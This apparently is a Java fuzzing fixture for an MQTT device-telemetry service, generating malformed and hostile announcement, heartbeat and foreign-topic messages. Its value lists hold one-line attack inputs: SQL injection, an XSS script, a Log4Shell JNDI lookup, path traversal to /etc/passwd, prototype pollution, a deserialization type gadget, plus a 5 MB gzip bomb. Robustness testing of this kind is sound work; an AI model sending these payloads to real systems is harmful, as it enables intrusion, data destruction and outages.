package io.muster.mqtt;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.zip.GZIPOutputStream;

/** A thousand messages and more that a broken or malicious unit could send, each different from the others. */
final class Hostile {

    /** What stands in the place of a good value. */
    private static final List<String> VALUES = List.of(
            "null",
            "true",
            "\"\"",
            "\" \"",
            "\"x\"",
            "\"" + "x".repeat(300) + "\"",
            "\"\\u0000\"",
            "\"\\ud800\"",
            "\"\\udc00\\ud800\"",
            "\"\\u202egpj\"",
            "\"\\ufeff\"",
            "\"'; drop table device; --\"",
            "\"<script>alert(1)</script>\"",
            "\"${jndi:ldap://example.com/a}\"",
            "\"../../../etc/passwd\"",
            "\"%s%n%x\"",
            "[]",
            "{}",
            "[null]",
            "{\"a\":{\"b\":{\"c\":{\"d\":1}}}}");

    private static final List<String> NUMBERS = List.of(
            "-1",
            "-0",
            "-0.0",
            "1.5",
            "1e0",
            "1E+2",
            "1e-400",
            "1e400",
            "-1e400",
            "1e2147483648",
            "1e-2147483649",
            "1e99999999999",
            "0.1e1",
            "2147483647",
            "2147483648",
            "4294967296",
            "9007199254740991",
            "9007199254740992",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775808",
            "18446744073709551616",
            "0x10",
            "010",
            "+1",
            ".5",
            "5.",
            "1.",
            "1e",
            "--1",
            "1_000",
            "NaN",
            "Infinity",
            "1".repeat(64),
            "1".repeat(65),
            "0." + "0".repeat(60) + "1",
            "١");

    /** Clocks that are wrong, or that break what reads them. */
    private static final List<String> TIMES = List.of(
            "1970-01-01T00:00:00.000Z",
            "1969-12-31T23:59:59.999Z",
            "1980-01-06T00:00:00.000Z",
            "1999-08-22T00:00:00.000Z",
            "2019-04-07T00:00:00.000Z",
            "2038-11-21T00:00:00.000Z",
            "2038-01-19T03:14:07.000Z",
            "2038-01-19T03:14:08.000Z",
            "1901-12-13T20:45:52.000Z",
            "2036-02-07T06:28:16.000Z",
            "2036-11-24T18:36:14.488Z",
            "2106-02-07T06:28:16.000Z",
            "9999-12-31T23:59:59.999Z",
            "0000-01-01T00:00:00.000Z",
            "0001-01-01T00:00:00.000Z",
            "-0001-01-01T00:00:00.000Z",
            "+10000-01-01T00:00:00.000Z",
            "2026-02-29T00:00:00.000Z",
            "2026-06-31T00:00:00.000Z",
            "2026-11-24T24:00:00.000Z",
            "2026-11-24T23:59:60.000Z",
            "2026-11-24T25:00:00.000Z",
            "2026-11-24 18:36:14.488Z",
            "2026-11-24T18:36Z",
            "2026-11-24T18:36:14Z",
            "2026-11-24T18:36:14.4Z",
            "2026-11-24T18:36:14.488888888Z",
            "2026-11-24T18:36:14.4888888888Z",
            "2026-11-24T18:36:14.488+02:00",
            "2026-11-24T18:36:14.488z",
            "2026-W48-2",
            "2026-328",
            "1764009374",
            "Tue, 24 Nov 2026 18:36:14 GMT",
            "２０２６-11-24T18:36:14.488Z",
            "2026-11-24T18:36:14.488Z ");

    private static final List<String> JUNK = List.of(
            "{",
            "}",
            "[",
            "]",
            "{]",
            "[}",
            "{\"a\"}",
            "{\"a\":}",
            "{:1}",
            "{,}",
            "{\"a\":1,}",
            "{\"a\":1,,\"b\":2}",
            "{\"a\" 1}",
            "{a:1}",
            "{'a':1}",
            "{\"a\":1 \"b\":2}",
            "[1,]",
            "[,1]",
            "[1 2]",
            "nul",
            "NULL",
            "tru",
            "True",
            "undefined",
            "\"",
            "\"\\",
            "\"\\x\"",
            "\"\\u12\"",
            "\"\\uZZZZ\"",
            "\"a\nb\"",
            "\"a\tb\"",
            "{\"a\":\"\t\"}",
            "1",
            "-",
            "1 1",
            "{}{}",
            "{} {}",
            "{}\u0000",
            "\u0000{}",
            "\u00a0{}",
            "\u2028{}",
            "//\n{}",
            "/**/{}",
            "{}//",
            "#\n{}",
            "<v>1</v>",
            "v=1",
            "v: 1",
            "%7B%7D",
            "{\"__proto__\":{\"v\":1}}",
            "{\"@type\":\"java.lang.Runtime\"}",
            "{\"\":1}",
            "{\"\\u0076\":1}",
            "{\"v\":1,\"\\u0076\":1}",
            "{\"v\":1,\"V\":2}");

    /** Below its own level a unit of AutoPi's make may write what it likes. */
    private static final List<String> AUTOPI = List.of(
            "/",
            "//",
            "/track/pos",
            "/track/pos/",
            "/track//pos",
            "/obd/bat",
            "/obd/vin",
            "/reactor",
            "/announce",
            "/$SYS",
            "/ ",
            "/\u202e",
            "/😀",
            "/..",
            "/../announce",
            "/%2e%2e",
            "/%00",
            "/a'b",
            "/a\"b",
            "/<b>",
            "/\\",
            "/" + "a/".repeat(120),
            "/" + "x".repeat(500),
            "/" + "é".repeat(200));

    record Message(String topic, byte[] payload, int qos, boolean retained) {

        private String key() {
            return topic + " " + qos + retained + Arrays.toString(payload);
        }
    }

    private final String unit;
    private final List<Message> all = new ArrayList<>();

    private Hostile(String unit) {
        this.unit = unit;
    }

    /** All of them, as this unit may send them. */
    static List<Message> messages(String unit) {
        Hostile hostile = new Hostile(unit);
        hostile.announcements();
        hostile.onOtherTopics();
        hostile.ofOtherMakes();
        hostile.mutants();
        Set<String> seen = new HashSet<>();
        return hostile.all.stream().filter(message -> seen.add(message.key())).toList();
    }

    private void announcements() {
        Garbage.payloads(unit).forEach(this::announce);
        String good = Garbage.good(unit);
        List<String> fields = List.of("v", "msgId", "unitId", "ts", "bootId", "seq", "fw");
        for (String field : fields) {
            String value = value(good, field);
            VALUES.forEach(bad -> announce(good.replace(value, "\"" + field + "\":" + bad)));
            announce(good.replace(value, value + "," + value));
        }
        for (String field : List.of(
                "hw", "modem", "vehicle", "net", "position", "caps", "heartbeatS", "uptimeS", "bootCount", "token")) {
            VALUES.forEach(bad -> announce(good.replace("\"fw\"", "\"" + field + "\":" + bad + ",\"fw\"")));
        }
        for (String field : List.of("seq", "v", "heartbeatS", "bootCount")) {
            NUMBERS.forEach(number -> announce(with(good, field, number)));
        }
        NUMBERS.forEach(
                number -> announce(good.replace("\"fw\"", "\"position\":{\"lat\":" + number + ",\"lon\":1},\"fw\"")));
        TIMES.forEach(time -> announce(good.replace("2026-11-24T18:36:14.488Z", time)));
        JUNK.forEach(this::announce);
        for (int depth = 1; depth <= 24; depth++) {
            announce(good.replace("\"fw\"", "\"x\":" + "[".repeat(depth) + "]".repeat(depth) + ",\"fw\""));
            announce(good.replace("\"fw\"", "\"x\":" + "{\"a\":".repeat(depth) + "1" + "}".repeat(depth) + ",\"fw\""));
        }
        for (int length : new int[] {8000, 8190, 8191, 8192, 8193, 8194, 16_384, 65_535, 65_536, 100_000}) {
            announce(good + " ".repeat(Math.max(1, length - good.length())));
        }
        for (Charset charset : Charset.availableCharsets().values()) {
            if (charset.canEncode() && charset.newEncoder().canEncode('é')) {
                announce(good.replace("1.0", "é" + charset.name()).getBytes(charset));
            }
        }
        for (int start = 0x80; start <= 0xFF; start += 3) {
            announce(spoiled(good, (byte) start));
            announce(spoiled(good, (byte) start, (byte) 0x80));
            announce(spoiled(good, (byte) start, (byte) 0xBF, (byte) 0xBF));
        }
        announce(zipped(good));
        for (int qos = 0; qos <= 2; qos++) {
            for (boolean retained : new boolean[] {true, false}) {
                byte[] payload = good.replace("\"fw\"", "\"note\":\"" + qos + retained + "\",\"fw\"")
                        .replace("1.0", "")
                        .getBytes(StandardCharsets.UTF_8);
                add("muster/v1/" + unit + "/announce", payload, qos, retained);
            }
        }
    }

    private void onOtherTopics() {
        for (String what : List.of("heartbeat", "status", "cmd/ping/reply", "cmd//reply", "cmd/x/reply")) {
            String topic = "muster/v1/" + unit + "/" + what;
            JUNK.forEach(junk -> add(topic, junk.getBytes(StandardCharsets.UTF_8), 1, what.equals("status")));
            for (String time : TIMES.subList(0, 12)) {
                String message = "{\"v\":1,\"ts\":\"" + time
                        + "\",\"bootId\":\"boot-0001\",\"connId\":\"c-1\",\"online\":true,\"id\":\"x\",\"status\":\"ok\"}";
                add(topic, message.getBytes(StandardCharsets.UTF_8), 2, false);
            }
        }
        for (String field : List.of("battV", "rssiDbm", "uptimeS", "seq")) {
            NUMBERS.forEach(number -> add(
                    "muster/v1/" + unit + "/heartbeat",
                    ("{\"v\":1,\"ts\":\"2026-11-24T18:41:14.500Z\",\"bootId\":\"boot-0001\",\"" + field + "\":" + number
                                    + "}")
                            .getBytes(StandardCharsets.UTF_8),
                    0,
                    false));
        }
    }

    private void ofOtherMakes() {
        for (String below : AUTOPI) {
            add(
                    "autopi/" + unit + below,
                    "{\"_stamp\":\"2026-11-24T18:50:03.329477\"}".getBytes(StandardCharsets.UTF_8),
                    1,
                    false);
            add("autopi/" + unit + below, new byte[] {0}, 0, true);
        }
        for (String topic : List.of("$EDC/account/" + unit + "/MQTT/BIRTH", "owntracks/somebody/" + unit)) {
            JUNK.forEach(junk -> add(topic, junk.getBytes(StandardCharsets.UTF_8), 1, false));
            add(topic, zipped("x".repeat(5_000_000)), 1, false);
        }
    }

    private void mutants() {
        Random random = new Random(20261125);
        byte[] good = Garbage.good(unit).getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < 150; i++) {
            announce(Mutator.mutated(good, random));
        }
    }

    private void announce(String payload) {
        announce(payload.getBytes(StandardCharsets.UTF_8));
    }

    private void announce(byte[] payload) {
        // Every third one at the QoS that nobody should use.
        add("muster/v1/" + unit + "/announce", payload, all.size() % 3 == 0 ? 2 : 1, false);
    }

    private void add(String topic, byte[] payload, int qos, boolean retained) {
        all.add(new Message(topic, payload, qos, retained));
    }

    /** A field of the good announcement, with its value. */
    private static String value(String good, String field) {
        int from = good.indexOf("\"" + field + "\":");
        int to = field.equals("fw") ? good.length() - 1 : good.indexOf(",\"", from);
        return good.substring(from, to);
    }

    private static String with(String good, String field, String number) {
        return good.contains("\"" + field + "\":")
                ? good.replace(value(good, field), "\"" + field + "\":" + number)
                : good.replace("\"fw\"", "\"" + field + "\":" + number + ",\"fw\"");
    }

    private static byte[] spoiled(String good, byte... inserted) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int at = good.indexOf("1.0");
        out.writeBytes(good.substring(0, at).getBytes(StandardCharsets.UTF_8));
        out.writeBytes(inserted);
        out.writeBytes(good.substring(at).getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    private static byte[] zipped(String text) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream zip = new GZIPOutputStream(out)) {
            zip.write(text.getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
